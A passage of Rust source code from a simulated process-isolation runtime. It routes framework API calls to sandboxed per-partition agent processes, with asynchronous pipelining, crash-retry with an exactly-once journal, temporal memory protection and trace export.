            let apis = self.routes.groups.get(&p).cloned().unwrap_or_default();
            self.spawn_agent(thread_partition(thread, p), apis);
        }
    }

    fn spawn_agent(&mut self, partition: PartitionId, apis: BTreeSet<ApiId>) {
        let pid = self.kernel.spawn(&format!("agent:{partition}"));
        let code_page = self
            .kernel
            .alloc(pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("fresh agent allocates");
        let chan = self
            .kernel
            .create_channel(self.host, pid, 1 << 22)
            .expect("host and agent are alive");
        self.agents.insert(
            partition,
            Agent {
                partition,
                pid,
                chan,
                code_page,
                apis,
                sealed: false,
                calls: 0,
                cache: CompletionCache::new(64),
            },
        );
    }

    // ------------------------------------------------------------------
    // Accessors
    // ------------------------------------------------------------------

    /// The API registry in force.
    pub fn registry(&self) -> &ApiRegistry {
        &self.reg
    }

    /// The hybrid categorization in force.
    pub fn report(&self) -> &HybridReport {
        &self.report
    }

    /// The host process id.
    pub fn host_pid(&self) -> Pid {
        self.host
    }

    /// The current framework state of the main thread.
    pub fn current_state(&self) -> FrameworkState {
        self.state_of(ThreadId::MAIN)
    }

    /// The main thread's Fig. 3 state timeline:
    /// `(virtual ns, state entered, objects newly locked)`.
    pub fn state_timeline(&self) -> Vec<(u64, FrameworkState, usize)> {
        self.states
            .get(&ThreadId::MAIN)
            .map(|s| s.timeline().to_vec())
            .unwrap_or_default()
    }

    /// The current framework state of one thread.
    pub fn state_of(&self, thread: ThreadId) -> FrameworkState {
        self.states
            .get(&thread)
            .map_or(FrameworkState::Initialization, StateMachine::current)
    }

    /// Spawns a fresh set of agent processes (one per partition) for a
    /// new application thread, with its own framework-state machine —
    /// the paper's multi-threading model (§6). Returns the thread id to
    /// pass to [`Runtime::call_on`].
    pub fn spawn_thread(&mut self) -> ThreadId {
        let thread = ThreadId(self.states.keys().map(|t| t.0).max().unwrap_or(0) + 1);
        self.states
            .insert(thread, StateMachine::new(self.policy.temporal_protection));
        self.spawn_agent_set(thread);
        thread
    }

    /// The agent serving a partition, if any.
    pub fn agent(&self, partition: PartitionId) -> Option<&Agent> {
        self.agents.get(&partition)
    }

    /// All partitions with live agent records.
    pub fn partitions(&self) -> Vec<PartitionId> {
        self.agents.keys().copied().collect()
    }

    /// The partition an API is routed to in the *canonical* (non-neutral)
    /// case — a routing-table lookup, not a plan recomputation.
    pub fn partition_of(&self, api: ApiId) -> PartitionId {
        self.routes
            .by_api
            .get(&api)
            .copied()
            .unwrap_or_else(|| self.policy.plan.partition_of(api, self.report.type_of(api)))
    }

    /// Runtime statistics. Transition counts sum over threads;
    /// `protected_objects` is a true gauge — the number of *distinct*
    /// objects currently locked, however many threads track them.
    pub fn stats(&self) -> RuntimeStats {
        let mut distinct: BTreeSet<ObjectId> = BTreeSet::new();
        for s in self.states.values() {
            distinct.extend(s.protected().iter().copied());
        }
        RuntimeStats {
            transitions: self.states.values().map(|s| s.transitions).sum(),
            protected_objects: distinct.len() as u64,
            ..self.stats
        }
    }

    /// Sequence of API calls completed so far.
    pub fn call_log(&self) -> &[ApiId] {
        &self.call_log
    }

    /// Whether any thread's state machine protects a given object.
    pub fn is_protected(&self, id: ObjectId) -> bool {
        self.states.values().any(|s| s.is_protected(id))
    }

    // ------------------------------------------------------------------
    // Observability
    // ------------------------------------------------------------------

    /// Turns span tracing, the per-partition metrics registry, and the
    /// security audit log on. Tracing only *reads* the virtual clock —
    /// it never charges time — so enabling it cannot change any
    /// deterministic benchmark result.
    pub fn enable_tracing(&mut self) {
        self.tracer.enable();
    }

    /// Whether tracing is recording.
    pub fn tracing_enabled(&self) -> bool {
        self.tracer.enabled()
    }

    /// The tracer: spans, marks, audit log, and the per-partition /
    /// per-API metrics registry.
    pub fn tracer(&self) -> &Tracer {
        &self.tracer
    }

    /// Records a driver-level instant mark (pipeline milestones such as
    /// "sample 3" or "frame 7") at the current virtual time.
    pub fn trace_mark(&mut self, label: &str) {
        self.trace_mark_on(ThreadId::MAIN, label);
    }

    /// Records an instant mark attributed to a specific application
    /// thread (pipelined drivers mark per-stage milestones).
    pub fn trace_mark_on(&mut self, thread: ThreadId, label: &str) {
        if self.tracer.enabled() {
            let now = self.kernel.now_ns();
            self.tracer.mark(now, thread, label);
        }
    }

    /// Exports the recorded trace as a complete Chrome `trace_event`
    /// JSON object (`{"traceEvents": [...]}`) loadable in
    /// `about:tracing` or Perfetto. Every live partition appears as its
    /// own process row, named by the API types its agent serves; host
    /// activity is process 0.
    pub fn export_chrome_trace(&self) -> String {
        format!(
            "{{\"displayTimeUnit\":\"ms\",\"traceEvents\":{}}}",
            self.tracer
                .chrome_trace_events(&self.reg, &self.partition_labels())
        )
    }

    /// Display labels for every live partition: the partition id plus
    /// the API types its agent serves.
    pub fn partition_labels(&self) -> Vec<(PartitionId, String)> {
        self.agents
            .iter()
            .map(|(p, agent)| {
                let mut types: BTreeSet<String> = agent
                    .apis
                    .iter()
                    .map(|a| self.reg.spec(*a).declared_type.to_string())
                    .collect();
                if types.is_empty() {
                    types.insert("idle".to_owned());
                }
                let label = format!("{p} ({})", types.into_iter().collect::<Vec<_>>().join("+"));
                (*p, label)
            })
            .collect()
    }

    // ------------------------------------------------------------------
    // Host-side data
    // ------------------------------------------------------------------

    /// Allocates host-resident application data (the paper's annotated
    /// critical data structures, e.g. OMRChecker's `template`). The
    /// object participates in temporal protection.
    pub fn host_data(&mut self, label: &str, bytes: &[u8]) -> ObjectId {
        let home = match self.policy.host_data {
            HostDataPlacement::Host => self.host,
            HostDataPlacement::WithType(t) => {
                let p = self.policy.plan.partition_of_type(t);
                self.agents.get(&p).map_or(self.host, |a| a.pid)
            }
            HostDataPlacement::OwnProcessEach => self.kernel.spawn(&format!("data:{label}")),
        };
        let id = self
            .objects
            .create_with_data(&mut self.kernel, home, ObjectKind::Blob, label, bytes)
            .expect("data home is alive");
        if self.policy.host_data == HostDataPlacement::OwnProcessEach {
            self.pinned.insert(id, home);
        }
        self.define_everywhere(id);
        id
    }

    /// Creates a host-homed object of an arbitrary kind (driver-level
    /// plumbing for pipelines that need a pre-existing tensor/Mat).
    pub fn host_object(&mut self, kind: ObjectKind, label: &str, bytes: &[u8]) -> ObjectId {
        let id = self
            .objects
            .create_with_data(&mut self.kernel, self.host, kind, label, bytes)
            .expect("host is alive");
        self.define_everywhere(id);
        id
    }

    fn define_on(&mut self, thread: ThreadId, id: ObjectId) {
        self.states
            .entry(thread)
            .or_insert_with(|| StateMachine::new(self.policy.temporal_protection))
            .define(id);
    }

    /// Registers annotated host data with *every* live thread's state
    /// machine: critical data must stay protected no matter which thread
    /// drives the pipeline past its defining state.
    fn define_everywhere(&mut self, id: ObjectId) {
        for sm in self.states.values_mut() {
            sm.define(id);
        }
    }

    /// Reads an object's payload from the host's perspective — a host
    /// dereference. Remote payloads are *copied* to the host (a counted
    /// non-lazy copy) without moving the object's home: reading a
    /// variable does not relocate it.
    ///
    /// # Errors
    ///
    /// [`CallError::StateLost`] when the payload died with a crashed
    /// agent.
    pub fn fetch_bytes(&mut self, id: ObjectId) -> Result<Vec<u8>, CallError> {
        let meta = self
            .objects
            .meta(id)
            .ok_or(CallError::StateLost(id))?
            .clone();
        // LDC-deref ordering: dereferencing a payload touched by an
        // in-flight call orders the host after that producing call.
        if let Some(&ns) = self.last_touch.get(&id) {
            self.kernel.advance_timeline_to(self.host, ns);
        }
        if meta.home != self.host {
            if let Some((addr, len)) = meta.buffer {
                let tracing = self.tracer.enabled();
                let fetch_t0 = if tracing { self.kernel.now_ns() } else { 0 };
                let bytes = self
                    .kernel
                    .mem_read(meta.home, addr, len)
                    .map_err(|_| CallError::StateLost(id))?;
                self.kernel.charge_copy(len);
                self.stats.host_copies += 1;
                self.charge_transport(len);
                if tracing {
                    let now = self.kernel.now_ns();
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::HostFetch,
                        seq: self.seq,
                        api: None,
                        partition: None,
                        thread: ThreadId::MAIN,
                        start_ns: fetch_t0,
                        end_ns: now,
                        bytes: len,
                    });
                }
                return Ok(bytes);
            }
        }
        self.objects
            .read_bytes(&mut self.kernel, id)
            .map_err(|_| CallError::StateLost(id))
    }

    /// Ships a pinned object back to its dedicated data process after a
    /// use (the per-access IPC of the code-based API+data baseline).
    fn return_pinned(&mut self, seq: u64, thread: ThreadId, id: ObjectId) -> Result<(), CallError> {
        if let Some(&pin) = self.pinned.get(&id) {
            let home = self.objects.meta(id).map(|m| m.home);
            if home != Some(pin) && self.kernel.is_running(pin) {
                let len = self.objects.meta(id).map_or(0, |m| m.len());
                let tracing = self.tracer.enabled();
                let copy_t0 = if tracing { self.kernel.now_ns() } else { 0 };
                self.objects
                    .migrate_direct(&mut self.kernel, id, pin)
                    .map_err(|_| CallError::StateLost(id))?;
                self.stats.host_copies += 1;
                self.charge_transport(len);
                if tracing {
                    let now = self.kernel.now_ns();
                    self.tracer.add_eager_bytes(seq, len);
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::DataCopy,
                        seq,
                        api: None,
                        partition: None,
                        thread,
                        start_ns: copy_t0,
                        end_ns: now,
                        bytes: len,
                    });
                }
                self.reapply_all(id);
            }
        }
        Ok(())
    }

    // ------------------------------------------------------------------
    // The hooked call path
    // ------------------------------------------------------------------

    /// Calls a framework API by qualified name.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call(&mut self, name: &str, args: &[Value]) -> Result<Value, CallError> {
        self.call_on(ThreadId::MAIN, name, args)
    }

    /// Calls a framework API by name on a specific application thread:
    /// the call routes to *that thread's* agent set and drives that
    /// thread's framework-state machine.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_on(
        &mut self,
        thread: ThreadId,
        name: &str,
        args: &[Value],
    ) -> Result<Value, CallError> {
        let api = self
            .reg
            .id_of(name)
            .ok_or_else(|| CallError::UnknownApi(name.to_owned()))?;
        self.call_id_on(thread, api, args)
    }

    /// Calls a framework API by id on the main thread.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_id(&mut self, api: ApiId, args: &[Value]) -> Result<Value, CallError> {
        self.call_id_on(ThreadId::MAIN, api, args)
    }

    /// Calls a framework API by id on a specific thread. Exactly
    /// equivalent to [`Runtime::call_async_id_on`] followed by an
    /// immediate [`Runtime::wait`] — the async machinery adds zero
    /// virtual nanoseconds to the synchronous path.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_id_on(
        &mut self,
        thread: ThreadId,
        api: ApiId,
        args: &[Value],
    ) -> Result<Value, CallError> {
        let handle = self.submit(thread, api, args, &[])?;
        self.wait(handle)
    }

    // ------------------------------------------------------------------
    // The asynchronous call interface
    // ------------------------------------------------------------------

    /// Submits a hooked call on the main thread without waiting for its
    /// response (see [`Runtime::call_async_with`]).
    ///
    /// # Errors
    ///
    /// See [`CallError`]. Submission-time errors (unknown API/thread)
    /// surface here; execution errors surface from [`Runtime::wait`].
    pub fn call_async(&mut self, name: &str, args: &[Value]) -> Result<CallHandle, CallError> {
        self.call_async_on(ThreadId::MAIN, name, args)
    }

    /// Submits a hooked call on a specific thread without waiting.
    ///
    /// # Errors
    ///
    /// See [`Runtime::call_async`].
    pub fn call_async_on(
        &mut self,
        thread: ThreadId,
        name: &str,
        args: &[Value],
    ) -> Result<CallHandle, CallError> {
        self.call_async_with(thread, name, args, &[])
    }

    /// Submits a hooked call with explicit dependencies: the call's
    /// agent timeline is ordered after every `deps` handle's completion
    /// (for dependencies the object table cannot see, e.g. a read of a
    /// file an earlier in-flight call writes).
    ///
    /// The call executes (agent-side) at submission, so results are
    /// byte-identical to the synchronous path; only virtual time
    /// overlaps. The response is consumed by [`Runtime::wait`].
    ///
    /// # Errors
    ///
    /// See [`Runtime::call_async`].
    pub fn call_async_with(
        &mut self,
        thread: ThreadId,
        name: &str,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<CallHandle, CallError> {
        let api = self
            .reg
            .id_of(name)
            .ok_or_else(|| CallError::UnknownApi(name.to_owned()))?;
        self.submit(thread, api, args, deps)
    }

    /// Submits a hooked call by API id (see [`Runtime::call_async_with`]).
    ///
    /// # Errors
    ///
    /// See [`Runtime::call_async`].
    pub fn call_async_id_on(
        &mut self,
        thread: ThreadId,
        api: ApiId,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<CallHandle, CallError> {
        self.submit(thread, api, args, deps)
    }

    /// Retires a call: consumes its response frame (merging the host's
    /// timeline past the agent's completion), runs host-side
    /// bookkeeping, and returns the result. Responses drain each
    /// partition's ring in FIFO order, so waiting on a call first
    /// retires every older in-flight call on the same partition.
    /// Waiting again on an already-retired handle returns the cached
    /// outcome without charging time.
    ///
    /// # Errors
    ///
    /// The call's execution error, if any (see [`CallError`]).
    pub fn wait(&mut self, handle: CallHandle) -> Result<Value, CallError> {
        if !self.inflight.contains_key(&handle.0) {
            return match self.retired.get(&handle.0) {
                Some((outcome, _)) => outcome.clone(),
                None => Err(CallError::UnknownApi(format!(
                    "call #{} was never submitted",
                    handle.0
                ))),
            };
        }
        let partition = self.inflight[&handle.0].partition;
        loop {
            let front = self.inflight_by_partition[&partition][0];
            self.retire_one(front);
            if front == handle.0 {
                break;
            }
        }
        self.retired[&handle.0].0.clone()
    }

    /// Peeks at an in-flight (or retired) call's result without
    /// retiring it — no response is consumed and no time is charged.
    ///
    /// # Errors
    ///
    /// The call's execution error, or `UnknownApi` for a handle that
    /// was never submitted.
    pub fn promise(&self, handle: CallHandle) -> Result<Value, CallError> {
        if let Some(inf) = self.inflight.get(&handle.0) {
            return inf.outcome.clone();
        }
        match self.retired.get(&handle.0) {
            Some((outcome, _)) => outcome.clone(),
            None => Err(CallError::UnknownApi(format!(
                "call #{} was never submitted",
                handle.0
            ))),
        }
    }

    /// Retires every in-flight call, oldest first. The security
    /// barriers call this: nothing may be in flight across a
    /// framework-state transition's mprotect storm.
    pub fn drain_inflight(&mut self) {
        while let Some((&seq, _)) = self.inflight.iter().next() {
            self.retire_one(seq);
        }
    }

    /// Number of submitted-but-unretired calls.
    pub fn in_flight(&self) -> usize {
        self.inflight.len()
    }

    /// Switches the kernel to per-process virtual timelines so
    /// asynchronous calls overlap in virtual time. Synchronous calls
    /// keep working (submit + immediate wait) and sync-only runs are
    /// unaffected — this only changes how *overlapping* calls are
    /// accounted. Host activity outside calls charges the host's
    /// timeline; read the result off [`Kernel::makespan_ns`].
    pub fn enable_pipelining(&mut self) {
        self.pipelining = true;
        self.kernel.enable_per_process_time();
        self.kernel.set_time_context(Some(self.host));
    }

    /// Whether per-process timelines are active.
    pub fn pipelining_enabled(&self) -> bool {
        self.pipelining
    }

    /// Bounds how many calls may be in flight per partition (min 1);
    /// submission force-retires the oldest beyond the window.
    pub fn set_pipeline_window(&mut self, window: usize) {
        self.pipeline_window = window.max(1);
    }

    /// The per-partition in-flight window.
    pub fn pipeline_window(&self) -> usize {
        self.pipeline_window
    }

    /// Completion time (agent timeline) a dependency handle resolves to.
    fn ready_ns(&self, handle: CallHandle) -> u64 {
        self.inflight
            .get(&handle.0)
            .map(|i| i.complete_ns)
            .or_else(|| self.retired.get(&handle.0).map(|(_, ns)| *ns))
            .unwrap_or(0)
    }

    /// Submission: security checks, state-machine barrier + transition,
    /// window enforcement, then one (crash-retried) delivery attempt.
    /// The call is fully executed agent-side when this returns; only
    /// the response leg and host bookkeeping remain for `wait`.
    fn submit(
        &mut self,
        thread: ThreadId,
        api: ApiId,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<CallHandle, CallError> {
        if !self.states.contains_key(&thread) {
            return Err(CallError::UnknownApi(format!("{thread} not spawned")));
        }
        let api_type = self.report.type_of(api);
        let neutral = self.reg.spec(api).type_neutral && self.policy.colocate_type_neutral;

        // Security barrier: a framework-state transition runs an
        // mprotect storm over the previous state's objects — no call may
        // be in flight across it, on *any* partition. Drain before the
        // transition is observed below.
        if !neutral && !self.inflight.is_empty() && self.states[&thread].would_transition(api_type)
        {
            self.drain_inflight();
        }

        // One sequence number per *logical* call: a crash-retry re-sends
        // the same seq, so an agent that completed the call just before
        // dying answers the retry from its completion journal instead of
        // executing the side effects a second time.
        self.seq += 1;
        let seq = self.seq;

        // Hook entry: the Call span opens here and the per-call byte
        // accumulation resets.
        let tracing = self.tracer.enabled();
        let call_t0 = if tracing {
            self.tracer.begin_call(seq);
            self.kernel.now_ns()
        } else {
            0
        };

        // Type-neutral APIs run in the calling context's agent and do not
        // move the framework state (§4.2).
        let base_partition = if neutral {
            match self.state_of(thread) {
                FrameworkState::InType(t) => self.policy.plan.partition_of_type(t),
                FrameworkState::Initialization => self.partition_of(api),
            }
        } else {
            // Temporal protection fires on the state change, *before* the
            // API executes (Fig. 3). Snapshot the page counter and the
            // protected set around it so the audit record carries the
            // exact protection delta this transition applied.
            let before = if tracing {
                Some((
                    self.kernel.now_ns(),
                    self.kernel.metrics().protected_pages,
                    self.states[&thread].protected().len(),
                    self.state_of(thread),
                ))
            } else {
                None
            };
            let sm = self.states.get_mut(&thread).expect("checked");
            let newly = sm.observe(api_type, &mut self.kernel, &self.objects).ok();
            if let Some((t0, pages0, prot0, from)) = before {
                let to = self.state_of(thread);
                if to != from {
                    let now = self.kernel.now_ns();
                    let pages = self.kernel.metrics().protected_pages - pages0;
                    let prot1 = self.states[&thread].protected().len();
                    let locked = newly.unwrap_or(0);
                    let unlocked = (prot0 + locked).saturating_sub(prot1);
                    self.tracer.record_audit(AuditRecord::StateTransition {
                        at_ns: t0,
                        thread,
                        seq,
                        from,
                        to,
                        objects_locked: locked,
                        objects_unlocked: unlocked,
                        pages,
                    });
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::Transition,
                        seq,
                        api: Some(api),
                        partition: None,
                        thread,
                        start_ns: t0,
                        end_ns: now,
                        bytes: 0,
                    });
                }
            }
            self.partition_of(api)
        };
        let partition = thread_partition(thread, base_partition);

        // Bounded in-flight window per partition.
        while self
            .inflight_by_partition
            .get(&partition)
            .is_some_and(|q| q.len() >= self.pipeline_window)
        {
            let oldest = self.inflight_by_partition[&partition][0];
            self.retire_one(oldest);
        }

        let first_attempt = self.dispatch_execute(thread, partition, seq, api, args, deps);
        let attempt = match first_attempt {
            Err(CallError::AgentCrashed(p)) if self.policy.restart == RestartPolicy::Restart => {
                // At-least-once re-delivery of the *same* request; the
                // completion journal upgrades it to exactly-once when the
                // crash happened after execution.
                if self.pipelining {
                    self.kernel.set_time_context(Some(self.host));
                }
                self.restart_agent_on(p, thread);
                self.dispatch_execute(thread, p, seq, api, args, deps)
            }
            other => other,
        };
        if self.pipelining {
            self.kernel.set_time_context(Some(self.host));
        }
        let inf = match attempt {
            Ok(d) => InFlight {
                api,
                thread,
                partition,
                outcome: Ok(d.value),
                has_response: d.has_response,
                booked: d.booked,
                touched: d.touched,
                complete_ns: d.complete_ns,
                call_t0,
                resp_t0: d.resp_t0,
                resp_len: d.resp_len,
            },
            Err(e) => InFlight {
                api,
                thread,
                partition,
                outcome: Err(e),
                has_response: false,
                booked: false,
                touched: Vec::new(),
                complete_ns: self.kernel.now_ns(),
                call_t0,
                resp_t0: 0,
                resp_len: 0,
            },
        };
        self.inflight.insert(seq, inf);
        self.inflight_by_partition
            .entry(partition)
            .or_default()
            .push_back(seq);
        Ok(CallHandle(seq))
    }

    /// Retirement: the host consumes the response frame and finishes the
    /// call's host-side bookkeeping. `seq` must be the oldest in-flight
    /// call on its partition (ring FIFO).
    fn retire_one(&mut self, seq: u64) {
        let Some(inf) = self.inflight.remove(&seq) else {
            return;
        };
        let partition = inf.partition;
        if let Some(q) = self.inflight_by_partition.get_mut(&partition) {
            debug_assert_eq!(q.front(), Some(&seq), "per-partition retirement is FIFO");
            q.retain(|s| *s != seq);
        }
        let tracing = self.tracer.enabled();
        let mut outcome = inf.outcome;
        if inf.has_response {
            // The host consumes the response now — under per-process
            // time this merges the host's timeline past the agent's
            // completion (happens-before) and charges delivery latency.
            if let Some(chan) = self.agents.get(&partition).map(|a| a.chan) {
                let _ = self.kernel.ipc_recv(self.host, chan);
            }
            if tracing {
                let now = self.kernel.now_ns();
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::Response,
                    seq,
                    api: Some(inf.api),
                    partition: Some(partition),
                    thread: inf.thread,
                    start_ns: inf.resp_t0,
                    end_ns: now,
                    bytes: inf.resp_len,
                });
            }
            // The host will never re-request this seq: let the agent
            // prune its completion journal up to the watermark.
            if let Some(agent) = self.agents.get_mut(&partition) {
                agent.cache.ack(seq);
            }
        }
        let mut snapshot_due = false;
        if outcome.is_ok() && !inf.booked {
            let agent = self.agents.get_mut(&partition).expect("agent exists");
            agent.calls += 1;
            snapshot_due = self.policy.snapshot_interval > 0
                && agent.calls.is_multiple_of(self.policy.snapshot_interval);
            self.stats.rpc_calls += 1;
            self.call_log.push(inf.api);

            // Ship pinned objects back to their data processes.
            if !self.pinned.is_empty() {
                for obj in inf.touched.clone() {
                    if let Err(e) = self.return_pinned(seq, inf.thread, obj) {
                        outcome = Err(e);
                        snapshot_due = false;
                        break;
                    }
                }
            }
        }
        // Periodic stateful snapshots (§A.2.4).
        if snapshot_due {
            self.take_snapshot(partition);
        }
        if tracing {
            let end = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Call,
                seq,
                api: Some(inf.api),
                partition: Some(partition),
                thread: inf.thread,
                start_ns: inf.call_t0,
                end_ns: end,
                bytes: 0,
            });
            let kind = match &outcome {
                Ok(_) => CallOutcome::Completed,
                Err(CallError::Framework(_)) => CallOutcome::Errored,
                Err(CallError::AgentCrashed(_)) | Err(CallError::AgentUnavailable(_)) => {
                    CallOutcome::Faulted
                }
                Err(_) => CallOutcome::Errored,
            };
            // Filter kills surface as crashes too; the dispatch path has
            // already written the finer-grained audit record.
            self.tracer
                .finish_call(seq, partition, inf.api, end - inf.call_t0, kind);
        }
        self.retired.insert(seq, (outcome, inf.complete_ns));
    }

    /// Test hook: makes the agent serving `partition` crash right after
    /// its next successful execution, before the response frame is
    /// delivered — the window where a call has completed in the agent but
    /// the host cannot know it. One-shot; used by the exactly-once
    /// regression tests.
    pub fn inject_crash_before_response(&mut self, partition: PartitionId) {
        self.crash_before_response = Some(partition);
    }

    /// One delivery attempt to an agent: marshals the request, moves
    /// argument payloads, executes agent-side, journals the completion,
    /// and *sends* the response — but does not consume it. `seq`
    /// identifies the logical call and is reused verbatim on
    /// crash-retries. The host-side half lives in `retire_one`.
    fn dispatch_execute(
        &mut self,
        thread: ThreadId,
        partition: PartitionId,
        seq: u64,
        api: ApiId,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<Dispatched, CallError> {
        let agent_pid = self
            .agents
            .get(&partition)
            .ok_or(CallError::AgentUnavailable(partition))?
            .pid;
        if !self.kernel.is_running(agent_pid) {
            if self.policy.restart == RestartPolicy::Restart {
                self.restart_agent_on(partition, thread);
            } else {
                return Err(CallError::AgentUnavailable(partition));
            }
        }
        let agent_pid = self.agents[&partition].pid;

        // --- request frame host → agent ---
        let tracing = self.tracer.enabled();
        let marshal_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let req = Request {
            seq,
            api,
            args: args.to_vec(),
        };
        let chan = self.agents[&partition].chan;
        self.kernel
            .ipc_send(self.host, chan, &req.encode())
            .map_err(|_| CallError::AgentUnavailable(partition))?;
        let delivered = self
            .kernel
            .ipc_recv(agent_pid, chan)
            .map_err(|_| CallError::AgentUnavailable(partition))?
            .expect("request just sent");
        let frame_len = delivered.len() as u64;
        let req = Request::decode(&delivered).expect("self-encoded frame");
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Marshal,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: marshal_t0,
                end_ns: now,
                bytes: frame_len,
            });
        }

        // Exactly-once: a re-delivered request whose execution already
        // completed (the agent died in the response window) is answered
        // from the completion journal without re-running side effects.
        if let Some(cached) = self.agents[&partition].cache.replay(req.seq) {
            let cached = cached.clone();
            let agent = self.agents.get_mut(&partition).expect("agent exists");
            agent.calls += 1;
            // The host has its answer: the journal entry is acked (and
            // prunable) the moment the replay is served.
            agent.cache.ack(req.seq);
            self.stats.rpc_calls += 1;
            self.call_log.push(api);
            if tracing {
                let now = self.kernel.now_ns();
                self.tracer.note_journal_hit(seq);
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::Replay,
                    seq,
                    api: Some(api),
                    partition: Some(partition),
                    thread,
                    start_ns: now,
                    end_ns: now,
                    bytes: 0,
                });
            }
            if self.policy.sandbox != SandboxLevel::None && !self.agents[&partition].sealed {
                self.seal_agent(partition);
            }
            return Ok(Dispatched {
                value: cached,
                has_response: false,
                booked: true,
                touched: Vec::new(),
                complete_ns: self.kernel.timeline_ns(agent_pid),
                resp_t0: 0,
                resp_len: 0,
            });
        }

        // From here the agent does the work: charge its timeline.
        if self.pipelining {
            self.kernel.set_time_context(Some(agent_pid));
        }

        // --- data plane: move object arguments ---
        let mut needed = Vec::new();
        for a in &req.args {
            a.collect_objects(&mut needed);
        }
        // Object-table hazards: consuming an object a still-in-flight
        // call touched orders this call after *that producer only* —
        // the agent's timeline merges to the producer's completion.
        for obj in &needed {
            if let Some(&ns) = self.last_touch.get(obj) {
                self.kernel.advance_timeline_to(agent_pid, ns);
            }
        }
        for dep in deps {
            let ns = self.ready_ns(*dep);
            self.kernel.advance_timeline_to(agent_pid, ns);
        }
        for obj in &needed {
            self.move_to_agent(thread, seq, *obj, agent_pid)?;
        }

        // --- execute in the agent's process context ---
        let exec_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let watermark = self.objects.next_id_watermark();
        let mut ctx = ApiCtx::new(&mut self.kernel, &mut self.objects, agent_pid);
        let exec_result = execute(&self.reg, api, &req.args, &mut ctx);
        let exploit_log = std::mem::take(&mut ctx.exploit_log);
        drop(ctx);
        self.exploit_log.extend(exploit_log);
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Execute,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: exec_t0,
                end_ns: now,
                bytes: 0,
            });
        }

        let result = match exec_result {
            Ok(v) => v,
            Err(e) if e.is_crash() => {
                if tracing {
                    self.audit_agent_crash(partition, seq, api, agent_pid, thread);
                }
                return Err(CallError::AgentCrashed(partition));
            }
            Err(e) => return Err(CallError::Framework(e)),
        };

        // Track objects defined during this call in the current state —
        // a range scan over ids past the watermark, not a store-wide one.
        let new_ids: Vec<ObjectId> = self.objects.ids_since(watermark).collect();
        for id in &new_ids {
            self.define_on(thread, *id);
        }

        // --- eager copy-back without LDC ---
        if !self.policy.lazy_data_copy {
            let mut back: Vec<ObjectId> = needed.clone();
            back.extend(result.as_obj());
            for obj in back {
                if let Some(meta) = self.objects.meta(obj) {
                    if meta.home == agent_pid {
                        let len = meta.len();
                        let copy_t0 = if tracing { self.kernel.now_ns() } else { 0 };
                        self.objects
                            .migrate_direct(&mut self.kernel, obj, self.host)
                            .map_err(|_| CallError::StateLost(obj))?;
                        self.stats.host_copies += 1;
                        self.charge_transport(len);
                        if tracing {
                            let now = self.kernel.now_ns();
                            self.tracer.add_eager_bytes(seq, len);
                            self.tracer.span(SpanEvent {
                                phase: SpanPhase::DataCopy,
                                seq,
                                api: Some(api),
                                partition: Some(partition),
                                thread,
                                start_ns: copy_t0,
                                end_ns: now,
                                bytes: len,
                            });
                        }
                        self.reapply_all(obj);
                    }
                }
            }
        }

        // The call is now complete agent-side: journal it *before* the
        // response leg, so a crash in the response window is recoverable
        // by replaying the journal instead of re-executing side effects.
        let journal_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        self.agents
            .get_mut(&partition)
            .expect("agent exists")
            .cache
            .complete(req.seq, result.clone());
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Journal,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: journal_t0,
                end_ns: now,
                bytes: 0,
            });
        }

        // One-shot injected crash in exactly that window (test hook).
        if self.crash_before_response == Some(partition) {
            self.crash_before_response = None;
            self.kernel.deliver_fault(agent_pid, FaultKind::Abort, None);
            return Err(CallError::AgentCrashed(partition));
        }

        // --- response frame agent → host (sent; consumed at retire) ---
        let resp_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let resp = Response {
            seq: req.seq,
            result: result.clone(),
        };
        let resp_frame = resp.encode();
        let resp_len = resp_frame.len() as u64;
        self.kernel
            .ipc_send(agent_pid, chan, &resp_frame)
            .map_err(|_| CallError::AgentCrashed(partition))?;

        // Seal the filter after the first completed call (§4.4.1).
        if self.policy.sandbox != SandboxLevel::None && !self.agents[&partition].sealed {
            self.seal_agent(partition);
        }

        // The agent is done with this call: everything it consumed or
        // produced becomes ready at its current timeline instant.
        let complete_ns = self.kernel.timeline_ns(agent_pid);
        let mut touched: Vec<ObjectId> = needed;
        touched.extend(result.as_obj());
        for obj in touched.iter().chain(new_ids.iter()) {
            self.last_touch.insert(*obj, complete_ns);
        }

        Ok(Dispatched {
            value: result,
            has_response: true,
            booked: false,
            touched,
            complete_ns,
            resp_t0,
            resp_len,
        })
    }

    /// Charges the transport penalty for moving `bytes` over a pipe
    /// instead of shared memory.
    fn charge_transport(&mut self, bytes: u64) {
        let factor = self.policy.transport.penalty_factor();
        if factor > 1 {
            let base = self.kernel.cost_model().copy_cost(bytes);
            self.kernel.charge_time(base * (factor - 1));
        }
    }

    /// Re-applies temporal protection from whichever thread's machine
    /// tracks the object (after a migration re-materialized it writable).
    fn reapply_all(&mut self, obj: ObjectId) {
        let threads: Vec<ThreadId> = self
            .states
            .iter()
            .filter(|(_, s)| s.is_protected(obj))
            .map(|(t, _)| *t)
            .collect();
        if threads.is_empty() {
            return;
        }
